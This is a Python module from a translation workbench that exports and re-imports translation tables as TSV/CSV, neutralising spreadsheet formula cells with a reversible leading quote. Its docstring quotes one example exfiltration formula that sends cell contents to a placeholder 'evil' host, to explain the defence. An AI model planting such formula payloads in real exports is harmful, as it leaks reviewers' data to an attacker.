"""TSV and CSV: the one table writer (documents, alignments, `translate` output) and its reader.

A document export has one row per segment with the columns a reviewer filters on
(`COLUMNS`). CSV is written with a UTF-8 byte-order mark, because Excel reads BOM-less CSV
as the local code page and turns Urdu into mojibake; TSV (for LibreOffice, pandas and
scripts) is plain UTF-8. Other tables (an alignment's beads, `workbench translate`'s rows)
go through the same `write_rows` with their own header.

Spreadsheet formulas: a cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage
return is a formula to Excel and LibreOffice, so a hostile sentence such as
`=HYPERLINK("http://evil/?"&A1)` would run on the reviewer's machine. Tables meant for
spreadsheets (`formula_safe=True`: document exports, glossary CSV) prefix such cells with
`'`, as OWASP recommends; spreadsheets show the text without the quote. Reading back is
exact because the rule is reversible: the writer also prefixes a cell that starts with `'`
followed by a trigger character or another `'`, and `restore_cell` removes one leading `'`
exactly when it is followed by a trigger character or `'`. A cell such as `'s-Hertogenbosch`
(a quote followed by anything else) is never touched either way.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Iterator, Sequence
from datetime import datetime
from pathlib import Path
from typing import BinaryIO, TextIO

from workbench.errors import InputError
from workbench.exchange.units import (
    PROP_DOCUMENT,
    PROP_ORIGIN,
    PROP_PARAGRAPH,
    PROP_SEGMENT,
    PROP_STATUS,
    TranslationUnit,
)
from workbench.timeutil import as_utc

COLUMNS = (
    "document",
    "paragraph",
    "segment",
    "source",
    "target",
    "status",
    "origin",
    "author",
    "changed",
)
# Columns that carry a unit property, in column order (how the reader rebuilds `props`).
_PROP_COLUMNS = (
    ("document", PROP_DOCUMENT),
    ("paragraph", PROP_PARAGRAPH),
    ("segment", PROP_SEGMENT),
    ("status", PROP_STATUS),
    ("origin", PROP_ORIGIN),
)

FORMULA_TRIGGERS = frozenset("=+-@\t\r")
QUOTE = "'"

TableOut = str | Path | TextIO | BinaryIO


def neutralise_cell(text: str) -> str:
    """`text` safe for a spreadsheet cell: a leading formula character gets a `'` before it."""
    if text and (
        text[0] in FORMULA_TRIGGERS
        or (
            text[0] == QUOTE and len(text) > 1 and (text[1] in FORMULA_TRIGGERS or text[1] == QUOTE)
        )
    ):
        return QUOTE + text
    return text


def restore_cell(text: str) -> str:
    """The cell as it was before `neutralise_cell` (one `'` removed only where it added one)."""
    if len(text) > 1 and text[0] == QUOTE and (text[1] in FORMULA_TRIGGERS or text[1] == QUOTE):
        return text[1:]
    return text


def write_rows(
    rows: Iterable[Sequence[object]],
    out: TableOut,
    *,
    header: Sequence[str],
    delimiter: str = "\t",
    formula_safe: bool = False,
) -> int:
    """Write `header` and `rows` (streaming) to a path, a text stream or a binary stream
    (left open); returns the number of rows. CSV (`delimiter` ",") gets a BOM for Excel;
    `formula_safe` neutralises text cells a spreadsheet would run as formulas."""
    encoding = "utf-8-sig" if delimiter == "," else "utf-8"
    if isinstance(out, str | Path):
        with open(out, "w", encoding=encoding, newline="") as stream:
            return write_rows(
                rows, stream, header=header, delimiter=delimiter, formula_safe=formula_safe
            )
    if not isinstance(out, io.TextIOBase):
        stream = io.TextIOWrapper(out, encoding=encoding, newline="")
        try:
            return write_rows(
                rows, stream, header=header, delimiter=delimiter, formula_safe=formula_safe
            )
        finally:
            stream.flush()
            stream.detach()
    writer = csv.writer(out, delimiter=delimiter, lineterminator="\n")
    # The csv module quotes a field holding the line terminator, but not a lone CR, which
    # readers then take for a line break: a row with a CR in a cell is quoted throughout.
    quoting_writer = csv.writer(
        out, delimiter=delimiter, lineterminator="\n", quoting=csv.QUOTE_ALL
    )
    writer.writerow(header)
    count = 0
    for row in rows:
        if formula_safe:
            row = [neutralise_cell(cell) if isinstance(cell, str) else cell for cell in row]
        has_cr = any(isinstance(cell, str) and "\r" in cell for cell in row)
        (quoting_writer if has_cr else writer).writerow(row)
        count += 1
    return count


def write_table(
    units: Iterable[TranslationUnit],
    out: TableOut,
    *,
    target_lang: str,
    delimiter: str = "\t",
) -> int:
    """A document export: one row per unit (streaming); `delimiter` "," for CSV, tab for TSV.

    Cells a spreadsheet would run as formulas are neutralised (see the module docstring).
    """
    return write_rows(
        (_unit_row(unit, target_lang) for unit in units),
        out,
        header=COLUMNS,
        delimiter=delimiter,
        formula_safe=True,
    )


def _unit_row(unit: TranslationUnit, target_lang: str) -> tuple[str, ...]:
    moment = unit.changed or unit.created
    return (
        unit.prop(PROP_DOCUMENT, ""),
        unit.prop(PROP_PARAGRAPH, ""),
        unit.prop(PROP_SEGMENT, ""),
        unit.source,
        unit.targets.get(target_lang, ""),
        unit.prop(PROP_STATUS, ""),
        unit.prop(PROP_ORIGIN, ""),
        unit.changed_by or unit.author or "",
        as_utc(moment).isoformat(timespec="seconds") if moment else "",
    )


def read_table(
    source: str | Path | BinaryIO,
    *,
    source_lang: str,
    target_lang: str,
    delimiter: str = "\t",
    name: str | None = None,
) -> Iterator[TranslationUnit]:
    """The units of a table `write_table` wrote (the header must be `COLUMNS`), streaming.

    The table names no languages, so the caller says them. The `author` column comes back
    as `changed_by` and `changed` as `changed`: a table keeps who touched a segment last.
    """
    label = name or str(getattr(source, "name", source))
    if isinstance(source, str | Path):
        with open(source, encoding="utf-8-sig", newline="") as stream:
            yield from _read_rows(stream, source_lang, target_lang, delimiter, label)
        return
    stream = io.TextIOWrapper(source, encoding="utf-8-sig", newline="")
    try:
        yield from _read_rows(stream, source_lang, target_lang, delimiter, label)
    finally:
        stream.detach()


def _read_rows(
    stream: TextIO, source_lang: str, target_lang: str, delimiter: str, label: str
) -> Iterator[TranslationUnit]:
    reader = csv.reader(stream, delimiter=delimiter)
    try:
        header = next(reader, None)
        if header is None or tuple(header) != COLUMNS:
            raise InputError(
                f"not a workbench table: the header is not {','.join(COLUMNS)}", path=label, line=1
            )
        for row in reader:
            if len(row) != len(COLUMNS):
                raise InputError(
                    f"{len(row)} fields where the header has {len(COLUMNS)}",
                    path=label,
                    line=reader.line_num,
                )
            cells = dict(zip(COLUMNS, (restore_cell(cell) for cell in row), strict=True))
            yield TranslationUnit(
                source_lang=source_lang,
                source=cells["source"],
                targets={target_lang: cells["target"]} if cells["target"] else {},
                changed=_parse_moment(cells["changed"], label, reader.line_num),
                changed_by=cells["author"] or None,
                props=tuple((prop, cells[col]) for col, prop in _PROP_COLUMNS if cells[col]),
            )
    except csv.Error as exc:
        raise InputError(f"bad CSV ({exc})", path=label, line=reader.line_num) from exc
    except UnicodeDecodeError as exc:
        raise InputError("not UTF-8 text", path=label) from exc


def _parse_moment(text: str, label: str, line: int) -> datetime | None:
    if not text:
        return None
    try:
        return as_utc(datetime.fromisoformat(text))
    except ValueError as exc:
        raise InputError(f"not a date: {text!r}", path=label, line=line) from exc
